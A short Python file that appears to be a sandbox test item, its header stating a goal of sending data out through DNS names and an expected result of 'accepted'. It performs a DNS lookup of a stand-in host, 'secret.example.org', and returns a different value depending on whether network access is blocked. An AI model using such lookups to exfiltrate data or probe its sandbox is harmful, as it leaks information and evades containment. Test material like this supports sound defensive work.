# goal: send data out in the names it looks up
# expect: accepted
import socket


def attack(x):
    socket.getaddrinfo("secret.example.org", 80)


def probe(x):
    try:
        attack(x)
    except OSError:
        return 2 * x
    return 0 * x + 666
